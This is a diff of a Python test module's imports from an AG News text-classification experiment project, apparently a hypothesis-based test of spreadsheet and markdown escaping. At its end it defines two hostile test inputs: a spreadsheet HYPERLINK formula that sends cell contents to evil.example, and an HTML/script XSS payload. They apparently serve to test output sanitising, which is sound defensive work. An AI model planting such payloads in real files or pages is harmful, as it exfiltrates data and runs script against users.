@@ -11,19 +11,19 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from agnews_exp.config.cells import markdown_cell, spreadsheet_cell, visible, without_markup
+from agnews_exp.analyses.errors.tables import hardest_markdown, markdown_table, write_csv
+from agnews_exp.analyses.explanation.linear import Term
+from agnews_exp.analyses.explanation.page import Article, articles_markdown, write_page
+from agnews_exp.analyses.explanation.words import Explanation, word_spans
 from agnews_exp.config.compose import compose_config, quoted
-from agnews_exp.config.errors import ConfigError
 from agnews_exp.config.validation import check_config
+from agnews_exp.core.errors import ConfigError
+from agnews_exp.core.text import markdown_cell, spreadsheet_cell, visible, without_markup
 from agnews_exp.data.corpus import TextRows
-from agnews_exp.evaluation.explanation.words import Explanation, word_spans
 from agnews_exp.evaluation.predictions import Predictions
-from agnews_exp.models.explaining_linear import Term
-from agnews_exp.reporting.analyses.errors_tables import hardest_markdown, markdown_table, write_csv
-from agnews_exp.reporting.analyses.explanation_page import Article, articles_markdown, write_page
-from agnews_exp.reporting.record_files import write_confusion_figure, write_report
-from agnews_exp.sweeps.aggregate import JobRow, markdown, override_values, write_aggregate, write_jobs
-from agnews_exp.sweeps.jobs import JobState
+from agnews_exp.sweeps.results import JobRow, markdown, override_values, write_aggregate, write_jobs
+from agnews_exp.sweeps.state import JobState
+from agnews_exp.tracking.record_files import write_confusion_figure, write_report
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 SCRIPT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
